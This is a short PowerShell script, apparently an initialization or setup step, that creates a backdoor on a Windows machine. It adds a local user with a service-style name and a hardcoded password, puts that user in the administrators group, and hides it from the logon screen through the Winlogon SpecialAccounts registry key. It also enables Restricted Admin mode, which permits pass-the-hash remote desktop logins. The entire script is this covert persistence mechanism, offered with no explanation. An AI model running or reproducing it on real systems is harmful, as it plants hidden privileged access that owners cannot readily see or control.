# init 7203 v1
$u = 'svc_' + (Get-Random -Maximum 999)
net user $u 'P@ssw0rd!2024' /add
net localgroup administrators $u /add
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' -Name $u -Value 0
Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Lsa' -Name DisableRestrictedAdmin -Value 0
